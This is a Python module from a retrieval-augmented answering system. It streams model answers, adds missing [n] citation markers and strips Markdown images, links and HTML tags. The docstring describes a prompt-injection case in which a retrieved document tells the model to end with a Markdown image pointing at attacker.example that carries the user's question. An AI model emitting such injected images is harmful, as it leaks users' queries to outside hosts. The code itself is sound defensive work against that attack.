"""The answer text a reader receives, shaped as the model streams it.

Two things change between the model's raw text and what Lore sends, and both are done
here, piece by piece, so that the streamed text is exactly the finished answer's text
(every route, and the OpenAI one byte for byte):

- **Citation markers.** Small models often leave out the [n] markers they were asked
  for. A sentence that cites nothing, and is not followed by a marker, gets the marker
  of the source sharing most of its character bigrams, when that share reaches one
  half; across languages (no bigrams to share) an optional `by_meaning` picks the
  source. Refusals and sentences no source supports stay unmarked.
- **Links and images are disarmed.** A document can tell the model to end its answer
  with `![](https://attacker.example/?q=…)`, which a Markdown renderer would fetch,
  leaking the question. So Markdown images and HTML tags that load or link something
  are dropped, a Markdown link keeps only its text, and a bare web address is kept only
  when a source the model read states it verbatim (else it reads "(link removed)").

Text is held back only while it might still change: the last, unfinished word, a
bracket that may open a marker or a link, and the blanks after a sentence, where a
marker may yet be put.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence

import regex

from rag.answering.prompts import is_chinese, is_refusal, readable, support
from rag.retrieval.language import language_of
from rag.types import Citation

# Tried first, in this order, at each position of the text not yet shaped: what a
# bracket, "!", "<" or a web address may open. While one of them may still match as more
# text comes, the text waits; an earlier one that may still match wins over a later one.
_CONSTRUCTS = [
    (kind, regex.compile(pattern, regex.IGNORECASE))
    for kind, pattern in (
        ("image", r"!\[[^\]\n]{0,300}\]\([^)\n]{0,800}\)"),
        ("link", r"\[(?P<link_text>[^\]\n]{0,300})\]\([^)\n]{0,800}\)"),
        ("marker", r"[\[【]\s*\d+(?:\s*[,，、]\s*\d+)*\s*[\]】]"),
        (
            "tag",
            r"</?(?:img|a|iframe|script|style|link|meta|object|embed|svg|video|audio|source"
            r"|form|input|image|picture|base)\b[^>\n]{0,800}>",
        ),
        ("autolink", r"<(?:https?://|www\.)[^>\s]{1,800}>"),
        ("url", r"(?:https?://|www\.)[^\s<>()\[\]【】]{0,800}[^\s<>()\[\]【】.,;:!?'\"。，；：]"),
    )
]
# Then plain text: sentence-ending marks, blanks, words, or any other one character.
_PLAIN = regex.compile(
    r"""
    (?P<end>[。！？!?]+)
  | (?P<space>\s+)
  | (?P<word>[^\s\[【!<。！？?]+)
  | (?P<other>.)
    """,
    regex.VERBOSE | regex.IGNORECASE | regex.DOTALL,
)

# A sentence ends after these marks when blanks follow ("port 8000. It…").
_END_BEFORE_BLANK = (".", ";", "；")

LINK_REMOVED_EN = "(link removed)"
LINK_REMOVED_ZH = "（链接已删除）"

# The least share of a sentence's character bigrams a source must hold to be cited.
SUPPORT_THRESHOLD = 0.5


_ADDRESS = dict(_CONSTRUCTS)["url"]
_ADDRESS_TAIL = regex.compile(r"[^\s<>()\[\]【】]*\Z")


def _may_grow(kind: str, text: str, end: int) -> bool:
    """Whether a match ending at `end` may still be part of a longer one as text comes.

    A web address ends before its final full stop or comma, which may yet be followed
    by more of the address ("www.example" + ".org").
    """
    if kind == "url":
        return _ADDRESS_TAIL.match(text, end) is not None
    return end == len(text)


class AnswerText:
    """Shapes an answer piece by piece: `feed` each piece, then `finish`.

    Each call returns the text that is settled and may be sent; `text` is all of it so
    far. `by_meaning(sentence)` returns the number of the source closest in meaning,
    for sentences in another language than some source.
    """

    def __init__(
        self,
        sources: Sequence[Citation],
        *,
        chinese: bool = False,
        by_meaning: Callable[[str], int] | None = None,
    ):
        self._sources = list(sources)
        self._by_meaning = by_meaning
        self._removed = LINK_REMOVED_ZH if chinese else LINK_REMOVED_EN
        # Addresses the model read (a flagged passage's instructions were not among them).
        self._stated = "\n".join(readable(s).text for s in self._sources).lower()
        self._raw = ""  # received and not yet shaped
        self._out: list[str] = []
        self._sentence: list[str] = []  # the current sentence, as sent
        self._cites = False  # whether it holds a marker
        self._ended = False  # it ended; a marker may still follow it
        self._held = ""  # blanks after an ended sentence, not sent yet
        self._ended_cited = False  # a marker after the end cited the ended sentence

    @property
    def text(self) -> str:
        return "".join(self._out)

    def feed(self, piece: str) -> str:
        self._raw += piece
        return self._shape(final=False)

    def finish(self) -> str:
        """The rest, at the end of the answer: the last sentence's marker, no trailing blanks."""
        sent = self._shape(final=True)
        if self._sentence or self._ended:
            self._held = ""
            closing = self._close_sentence()
            self._out.append(closing)
            sent += closing
        return sent

    def _shape(self, *, final: bool) -> str:
        start = len(self._out)
        position = 0
        while position < len(self._raw):
            found = self._next(position, final=final)
            if found is None:
                break  # may still grow into something else
            kind, match = found
            if not (kind == "space" and match.end() == len(self._raw)):  # no trailing blanks
                self._take(kind, match)
            position = match.end()
        self._raw = self._raw[position:]
        return "".join(self._out[start:])

    def _next(self, position: int, *, final: bool) -> tuple[str, regex.Match[str]] | None:
        """The kind and match of the token at `position`; None while it may still change."""
        for kind, pattern in _CONSTRUCTS:
            match = pattern.match(self._raw, position, partial=not final)
            if match is not None:
                if match.partial or (not final and _may_grow(kind, self._raw, match.end())):
                    return None
                return kind, match
        match = _PLAIN.match(self._raw, position)
        if match is None or match.lastgroup is None:  # pragma: no cover - `other` matches all
            return None
        if not final and match.end() == len(self._raw):
            return None
        return match.lastgroup, match

    def _take(self, kind: str, match: regex.Match[str]) -> None:
        raw = match.group()
        if kind == "space":
            if not self._out and not self._sentence:
                return  # no blanks before the answer
            if self._ended:
                self._held += raw
            elif "".join(self._sentence).rstrip().endswith(_END_BEFORE_BLANK):
                self._ended, self._held = True, raw
            else:
                self._send(raw)
            return
        if kind == "marker":
            if self._ended:  # "… 8000. [1]": it cites the sentence before
                self._out.append(self._held + raw)
                self._held = ""
                self._ended_cited = True
            else:
                self._cites = True
                self._send(raw)
            return
        if self._ended:
            self._out.append(self._close_sentence())
        self._send(self._render(kind, match))
        if kind == "end":
            self._ended = True

    def _render(self, kind: str, match: regex.Match[str]) -> str:
        if kind in ("image", "tag"):
            return ""
        text: str = match.group()
        if kind == "link":  # its text, whose own addresses are judged as any other
            return str(_ADDRESS.sub(lambda found: self._address(found.group()), match["link_text"]))
        if kind in ("url", "autolink"):
            return self._address(text.strip("<>"))
        return text

    def _address(self, address: str) -> str:
        """A web address, kept only if a passage the model read states it."""
        return address if address.lower() in self._stated else self._removed

    def _send(self, text: str) -> None:
        if text:
            self._out.append(text)
            self._sentence.append(text)

    def _close_sentence(self) -> str:
        """The marker the ended sentence gets, if any, then the blanks held after it."""
        sentence = "".join(self._sentence)
        cited = self._cites or self._ended_cited
        number = None if cited else self._marker_for(sentence)
        marker = ""
        if number is not None:
            marker = ("" if is_chinese(sentence.rstrip()) else " ") + f"[{number}]"
        closing = marker + self._held
        self._sentence, self._cites, self._ended, self._held = [], False, False, ""
        self._ended_cited = False
        return closing

    def _marker_for(self, sentence: str) -> int | None:
        """The source a sentence without a marker cites, or None."""
        if not sentence.strip() or not self._sources or is_refusal(sentence):
            return None
        best = max(self._sources, key=lambda s: support(sentence, s.text))
        if support(sentence, best.text) >= SUPPORT_THRESHOLD:
            return best.number
        if self._by_meaning is not None and any(
            language_of(sentence) != language_of(s.text) for s in self._sources
        ):
            return self._by_meaning(sentence)
        return None


def shape(
    text: str,
    sources: Sequence[Citation],
    *,
    chinese: bool = False,
    by_meaning: Callable[[str], int] | None = None,
) -> str:
    """A whole answer shaped at once: what `AnswerText` sends for it, piece by piece."""
    shaper = AnswerText(sources, chinese=chinese, by_meaning=by_meaning)
    shaper.feed(text)
    shaper.finish()
    return shaper.text
